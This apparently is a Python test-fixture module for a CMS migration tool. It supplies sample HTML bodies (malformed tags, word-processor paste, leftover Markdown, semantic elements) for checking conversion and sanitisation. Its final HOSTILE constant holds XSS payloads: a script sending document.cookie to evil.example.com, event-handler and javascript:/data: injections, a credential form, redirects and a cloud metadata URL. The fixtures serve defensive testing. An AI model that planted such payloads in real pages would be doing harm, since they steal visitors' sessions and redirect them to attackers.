"""Bodies that importers once sent, and bodies taken from published pages."""

from __future__ import annotations

from cmsmig.sandbox.sample.bodies.markup import (
    image_published,
    paragraphs,
    video_published,
)
from cmsmig.sandbox.sample.bodies.prose_en import (
    BREWING,
    HARBOUR,
    MARSH,
    PEOPLE,
    PRACTICAL,
    TABLE,
)
from cmsmig.sandbox.sample.identity import address

PUBLISHED_PAGE = (
    "<h2>Smoke &amp; barley</h2><p>“Beech gives ham”, she says&#8230;</p>"
    + paragraphs(BREWING[3])
    + image_published(
        "kiln.jpg",
        alt="The kiln&#x27;s door",
        align="fullwidth",
        caption="The kiln, <strong>open</strong>.",
    )
    + '<ul role="list"><li>Beech</li><li>Alder</li><li>Peat</li></ul>'
    + image_published("heather.jpg", align="floatright")
    + f'<img src="{address("maltings.jpg")}" srcset="'
    f"{address('maltings.jpg', variant='-p-500')} 500w, "
    f'{address("maltings.jpg")} 1200w"'
    ' sizes="100vw" alt="The maltings" class="image-12">'
    + video_published("https://player.vimeo.com/video/900100203", title="Kiln")
    + '<div class="w-embed w-script"><script>window.kiln=1</script></div>'
    + '<ol role="list" start="2"><li>Dry</li><li>Smoke</li></ol>'
)
"""The second dialect from end to end, as scraped from a page."""

BARE_TABLE = (
    "<div>" + paragraphs(PRACTICAL[2]) + "</div>"
    '<table border="1"><tbody><tr><th>Issue</th><th>Out on</th></tr><tr><td>'
    "<p>Spring</p></td><td>20&nbsp;March</td></tr><tr><td>Summer</td><td><ul><li>"
    "21&nbsp;June</li></ul></td></tr></tbody></table>"
    '<div class="text-block">Loose text in a div<div>and a div in that</div></div>'
)
"""A table and divs outside any embed."""

STYLED = (
    f'<p style="text-align:center">{TABLE[2]}</p>'
    f'<h2 style="text-align: right;">Dark</h2><p style="text-align:justify">{TABLE[3]}'
    '</p><p><span style="color:#b5502f;font-weight:700">Rust, and bold.</span> '
    '<span style="font-style: italic">Leaning.</span> <span>Nothing.</span> '
    '<span style="text-decoration: underline; background-color: rgb(255, 240, 0)">'
    'Marked.</span></p><p align="center"><font color="red">Older still</font></p>'
    '<center>Older than that</center><p class="lead intro" lang="fr" dir="ltr">Classe'
    "</p>"
)
"""Alignment, spans and colours, as word processors leave them."""

MARKDOWN_LEFT = (
    "<p>## What is left of the Markdown</p><p>**Bold** and _leaning_ and "
    "[a link](/journal/two-bakers) and ![a picture](https://images.example.com/x.png)"
    "</p><p>- one\n- two\n- three</p><p>&lt;strong&gt;escaped twice&lt;/strong&gt;</p>"
    "<p>1. first\n2. second</p>" + paragraphs(HARBOUR[4])
)
"""Markdown that an importer wrapped instead of converting."""

MALFORMED = (
    "<p>Opened and <strong>never closed<p>Next one, <em>crossed <strong>over</em> "
    "again</strong></p></div><li>An entry without a list</li><td>A cell without a "
    "table</td><p>An & alone, a < alone, &nosuch; and &#0;</p><img alt='no source'>"
    "<a href='/journal/measuring-rain>Quote never closed</a> <p attr=>End"
)
"""Tags that cross, never close or belong elsewhere."""

WORD = (
    '<p class="MsoNormal"><o:p></o:p><span lang="EN-GB">'
    + MARSH[4]
    + "</span></p><!--[if gte mso 9]><xml></xml><![endif]-->"
    "<p class=MsoListParagraph>·<span>&nbsp;&nbsp;&nbsp;</span>Pasted bullet</p>"
    "<style>@page{margin:2cm}</style><title>Untitled</title>"
    "<p>After the style.</p>"
)
"""Pasted from a word processor."""

SEMANTIC = (
    f"<article><header><h2>Orla Finch</h2></header><p>{PEOPLE[4]}</p>"
    "<details><summary>The eleven days</summary><p>Each one is accounted for.</p>"
    "</details><dl><dt>1976</dt><dd>A wedding.</dd><dt>1991</dt><dd>The flood.</dd>"
    "</dl><figure><figcaption>A caption without a picture</figcaption></figure>"
    f'<picture><source srcset="{address("gauge.webp")}" type="image/webp">'
    f'<img src="{address("gauge.jpg")}" alt="The copper gauge"></picture>'
    '<button type="button">Show all</button><form action="https://forms.example.com">'
    '<label>Mail <input name="m"></label></form><aside>Aside.</aside>'
    "<svg width='20' height='20'><title>Drop</title><circle cx='10' cy='10' r='9'/>"
    "</svg><footer>Measured at nine.</footer></article>"
)
"""Elements of newer pages that a rich text field never makes itself."""

HOSTILE = (
    "<p>Is the water safe to drink?</p>"
    "<script>fetch('https://evil.example.com/?c=' + document.cookie)</script>"
    '<img src="x" onerror="parent.postMessage(document.cookie, \'*\')">'
    f'<img src="{address("well.jpg")}" onload="alert(1)" alt="The well">'
    '<a href="javascript:alert(document.domain)">Yes</a>, '
    '<a href=" java\nscript:alert(2)">really</a>, '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==">truly</a>.'
    '<iframe src="data:text/html,<script>alert(4)</script>"></iframe>'
    '<iframe srcdoc="<script>alert(5)</script>"></iframe>'
    '<svg onload="alert(6)"><script>alert(7)</script></svg>'
    '<p style="background:url(javascript:alert(8))" onclick="alert(9)">It is, from '
    'the tap.</p><form action="https://evil.example.com"><input name="password" '
    'autofocus onfocus="alert(10)"></form>'
    '<img src="data:image/svg+xml,%3Csvg onload=alert(11)%3E" alt="drawn">'
    '<img src="http://169.254.169.254/latest/meta-data" alt="inner">'
    '<object data="https://evil.example.com/x.swf"></object>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example.com">'
    '<base href="https://evil.example.com/"><link rel="stylesheet" '
    'href="https://evil.example.com/x.css"></textarea></script><!-- --!> <p>End.</p>'
)
"""Everything that must never run, in the answer to a harmless question."""
